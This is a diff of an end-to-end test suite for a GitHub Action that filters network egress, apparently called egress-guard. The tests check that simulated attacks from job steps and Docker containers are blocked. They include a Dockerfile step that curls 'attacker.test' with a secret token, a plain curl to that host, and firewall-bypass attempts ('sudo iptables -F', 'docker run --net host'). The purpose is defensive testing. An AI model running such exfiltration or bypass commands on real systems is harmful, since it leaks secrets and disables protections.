@@ -11,9 +11,8 @@ import { fileURLToPath } from 'node:url';
 import { after, before, describe, it } from 'node:test';
 import { EGRESS_BIN, NET, World, type InternetLogEntry } from './harness.js';
 import { renderSummaryInChromium } from './summary-in-chromium.js';
-import { BRIDGE, SimulatedContainer } from './simulated-container.js';
 import type { CommandResult } from './netns.js';
-import { DOCKER_SOCKET, parseCommandFile, RESOLVED_STUB, SimulatedRunner, type Job } from './github-runner.js';
+import { DOCKER_BRIDGE_ADDRESS, DOCKER_SOCKET, parseCommandFile, RESOLVED_STUB, SimulatedRunner, TOOLS_IMAGE, type Job } from './github-runner.js';
 
 const ALLOWED = 'allowed.test:443\nregistry.test:443';
 /** The documentation ranges are not public unicast: trusted, as a user trusts a private registry. */
@@ -78,6 +77,8 @@ function annotation(level: 'error' | 'warning', outcome: 'blocked' | 'would-bloc
 }
 
 const COLLECTOR_TOKEN = 'e2e-collector-token';
+/** A Docker network the job creates after main: a new br-* bridge (documentation addresses, not Docker's pools). */
+const LATER_NETWORK = '203.0.113.160/27';
 /** Where the screenshot of the rendered summary goes (test-artifacts/ at the checkout, as the collector page's). */
 const ARTIFACTS = fileURLToPath(new URL('../../../test-artifacts', import.meta.url));
 
@@ -130,11 +131,12 @@ describe('GitHub Action on a simulated GitHub-hosted runner', { timeout: 600_000
   });
 
   it('block mode (ubuntu-like systemd-resolved stub): nothing of the attack reaches the internet, the allowed host works, post fails the step (fail-on-block) and reports', async () => {
-    const runner = await SimulatedRunner.start(world, 'block', 'systemd-resolved');
+    const runner = await SimulatedRunner.start(world, 'block', NET.dns, 'systemd-resolved');
     const collector = await startCollector(world);
-    // Made before main, as Docker's bridge exists when a GitHub job starts.
-    const container = await SimulatedContainer.start(world, NET.dns);
     try {
+      // Running before main, as Docker runs when a GitHub job starts.
+      await runner.startDockerd(NET.dns);
+      await runner.importToolsImage();
       const job = runner.newJob('block', {
         'egress-policy': 'block',
         'allowed-endpoints': ALLOWED,
@@ -154,19 +156,47 @@ describe('GitHub Action on a simulated GitHub-hosted runner', { timeout: 600_000
       assert.match(main.stdout, /containers on docker0, br-\+ redirected too \(IPv4; forwarded traffic filtered in DOCKER-USER\)/);
       const since = Date.now();
       assertAttacksRefused(await jobSteps(asJobStep(runner, job), world), 'job step');
-      // The same from a container on the bridge (docker run): redirected from PREROUTING, the rest refused in DOCKER-USER.
-      assertAttacksRefused(await jobSteps((command, args, env) => container.run(command, args, env), world), 'container');
+      // The same from containers the job starts: `docker run` on the default bridge, on a network made now (a new
+      // br-* bridge), and a `docker build` step. Redirected from PREROUTING, the rest refused in DOCKER-USER.
+      const docker = (args: readonly string[]) =>
+        runner.step('docker', args, { env: { ...job.env, DOCKER_HOST: `unix://${DOCKER_SOCKET}`, DOCKER_BUILDKIT: '0' }, timeoutMs: 60_000 });
+      const inContainer =
+        (network: string): Executor =>
+        (command, args, env = {}) =>
+          docker([
+            'run',
+            '--rm',
+            '--network',
+            network,
+            '-v',
+            `${world.caFile}:${world.caFile}:ro`,
+            ...Object.entries(env).flatMap(([k, v]) => ['-e', `${k}=${v}`]),
+            TOOLS_IMAGE,
+            command,
+            ...args,
+          ]);
+      assertAttacksRefused(await jobSteps(inContainer('bridge'), world), 'docker run');
+      const network = await docker(['network', 'create', '--subnet', LATER_NETWORK, 'egact-later']);
+      assert.equal(network.code, 0, network.stderr);
+      assertAttacksRefused(await jobSteps(inContainer('egact-later'), world), 'docker run on a network created after main');
+      const build = (url: string) => {
+        const context = path.join(job.dir, `build-${url.length}`);
+        mkdirSync(context, { recursive: true });
+        writeFileSync(path.join(context, 'Dockerfile'), `FROM ${TOOLS_IMAGE}\nRUN ["/usr/bin/curl", "-sS", "--max-time", "8", "-k", "${url}"]\n`);
+        return docker(['build', '--no-cache', '-q', context]);
+      };
+      const allowedBuild = await build('https://allowed.test/');
+      assert.equal(allowedBuild.code, 0, `docker build fetching the allowed host failed: ${allowedBuild.stderr}`);
+      assert.notEqual((await build(`https://attacker.test/build?token=${SECRET}`)).code, 0, 'docker build reached attacker.test');
       const eventLines = (await runner.asRoot('cat', ['/var/lib/egress-guard/events.ndjson'])).stdout;
-      assert.match(
-        eventLines,
-        new RegExp(`"client":"${escapeRegExp(BRIDGE.container)}:\\d+","host":"attacker\\.test"[^\\n]*"decision":"blocked"`),
-        'no blocked event attributed to the container',
-      );
-      assert.match(
-        eventLines,
-        new RegExp(`"client":"${escapeRegExp(BRIDGE.container)}:\\d+","host":"allowed\\.test"[^\\n]*"decision":"allowed"`),
-        'no allowed event attributed to the container',
-      );
+      for (const [subnet, what] of [
+        [DOCKER_BRIDGE_ADDRESS, 'the default bridge'],
+        [LATER_NETWORK, 'the network created after main'],
+      ] as const) {
+        const prefix = escapeRegExp(subnet.slice(0, subnet.lastIndexOf('.') + 1));
+        assert.match(eventLines, new RegExp(`"client":"${prefix}\\d+:\\d+","host":"attacker\\.test"[^\\n]*"decision":"blocked"`), `no blocked event from ${what}`);
+        assert.match(eventLines, new RegExp(`"client":"${prefix}\\d+:\\d+","host":"allowed\\.test"[^\\n]*"decision":"allowed"`), `no allowed event from ${what}`);
+      }
       const seen = internetSince(world, since);
       assert.deepEqual(leaked(seen), [], 'something of the attack reached the internet');
       assert.ok(
@@ -208,13 +238,12 @@ describe('GitHub Action on a simulated GitHub-hosted runner', { timeout: 600_000
       );
     } finally {
       collector.child.kill('SIGTERM');
-      container.destroy();
       await runner.stop();
     }
   });
 
   it('audit mode: every step works, each attack is a would-block warning and a summary row; egress-guard dying breaks nothing; post passes', async () => {
-    const runner = await SimulatedRunner.start(world, 'audit');
+    const runner = await SimulatedRunner.start(world, 'audit', NET.dns);
     try {
       const job = runner.newJob('audit', { 'egress-policy': 'audit', 'allowed-endpoints': ALLOWED, 'trusted-ranges': TRUSTED });
       const main = await runner.runAction(job, 'main');
@@ -266,7 +295,7 @@ describe('GitHub Action on a simulated GitHub-hosted runner', { timeout: 600_000
   });
 
   it('audit mode with fail-on-block: the job runs through, post fails the step naming what would have been blocked', async () => {
-    const runner = await SimulatedRunner.start(world, 'auditfail');
+    const runner = await SimulatedRunner.start(world, 'auditfail', NET.dns);
     try {
       const job = runner.newJob('auditfail', { 'allowed-endpoints': ALLOWED, 'trusted-ranges': TRUSTED, 'fail-on-block': 'true' });
       const main = await runner.runAction(job, 'main');
@@ -283,10 +312,10 @@ describe('GitHub Action on a simulated GitHub-hosted runner', { timeout: 600_000
     }
   });
 
-  it('disable-sudo (policy from policy-file): afterwards sudo iptables -F fails and the Docker socket refuses the job; post still reports', async () => {
-    const runner = await SimulatedRunner.start(world, 'nosudo');
+  it('disable-sudo (policy from policy-file): afterwards sudo iptables -F and docker run --net host fail for the job; post still reports', async () => {
+    const runner = await SimulatedRunner.start(world, 'nosudo', NET.dns);
     try {
-      await runner.startFakeDockerd();
+      await runner.startDockerd(NET.dns);
       // The policy from a file in the repository, readable by the runner user only: main copies it for egress-guard.
       const job = runner.newJob('nosudo', { 'policy-file': '.github/egress-policy.yaml', 'disable-sudo': 'true' });
       const policyFile = path.join(job.env.GITHUB_WORKSPACE!, '.github/egress-policy.yaml');
@@ -294,10 +323,19 @@ describe('GitHub Action on a simulated GitHub-hosted runner', { timeout: 600_000
       const trusted = TRUSTED.split(' ').map((range) => `  - ${range}\n`);
       writeFileSync(policyFile, `mode: block\nallowed-endpoints: >\n  ${ALLOWED.replace('\n', '\n  ')}\ntrusted-ranges:\n${trusted.join('')}`, { mode: 0o600 });
       chownSync(policyFile, runner.user.uid, runner.user.gid);
-      const docker = () => runner.step('curl', ['-sS', '--max-time', '5', '--unix-socket', DOCKER_SOCKET, 'http://docker/_ping'], { env: job.env });
+      // What CVE-2025-32955 used: a container in the host's network namespace, privileged, undoes any rule. This
+      // machine cannot start privileged containers at all (its own capabilities are bounded), so the check is that
+      // the job can no longer start one in the host's network namespace.
+      const docker = () =>
+        runner.step('docker', ['-H', `unix://${DOCKER_SOCKET}`, 'run', '--rm', '--net', 'host', TOOLS_IMAGE, '/usr/bin/curl', '--version'], {
+          env: job.env,
+          timeoutMs: 60_000,
+        });
       const sudoBefore = await runner.step('sudo', ['-n', 'true'], { env: job.env });
       assert.equal(sudoBefore.code, 0, `runner has no sudo to begin with: ${sudoBefore.stderr}`);
-      assert.equal((await docker()).code, 0, 'runner cannot reach the docker socket to begin with');
+      await runner.importToolsImage();
+      const before = await docker();
+      assert.equal(before.code, 0, `runner cannot docker run --net host to begin with: ${before.stderr}`);
 
       const main = await runner.runAction(job, 'main');
       assert.equal(main.code, 0, `main failed:\n${main.stdout}\n${main.stderr}`);
@@ -307,8 +345,8 @@ describe('GitHub Action on a simulated GitHub-hosted runner', { timeout: 600_000
       assert.notEqual(flush.code, 0, 'sudo iptables -F still works');
       assert.match((await runner.asRoot('iptables', ['-S'])).stdout, /EGRESS_GUARD_FILTER/);
       const socket = await docker();
-      assert.notEqual(socket.code, 0, 'the docker socket still answers the job');
-      assert.match(socket.stderr, /Permission denied|Couldn't connect/i);
+      assert.notEqual(socket.code, 0, 'docker run --net host still works for the job');
+      assert.match(socket.stderr, /permission denied/i);
       const attack = await runner.step('curl', ['-sS', '--max-time', '5', '--cacert', world.caFile, 'https://attacker.test/'], { env: job.env });
       assert.notEqual(attack.code, 0);
 
